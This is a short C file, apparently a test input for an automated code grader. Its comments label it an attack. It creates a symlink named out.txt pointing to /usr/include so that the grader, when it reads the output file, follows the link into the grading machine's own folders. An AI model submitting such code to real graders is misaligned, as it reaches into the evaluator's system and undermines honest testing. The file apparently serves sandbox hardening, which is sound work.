// Wants files of the grader's side: the wanted file is a link to a folder of the machine.
// attack: c file
#include <unistd.h>
int main(void) { symlink("/usr/include", "out.txt"); return 0; }
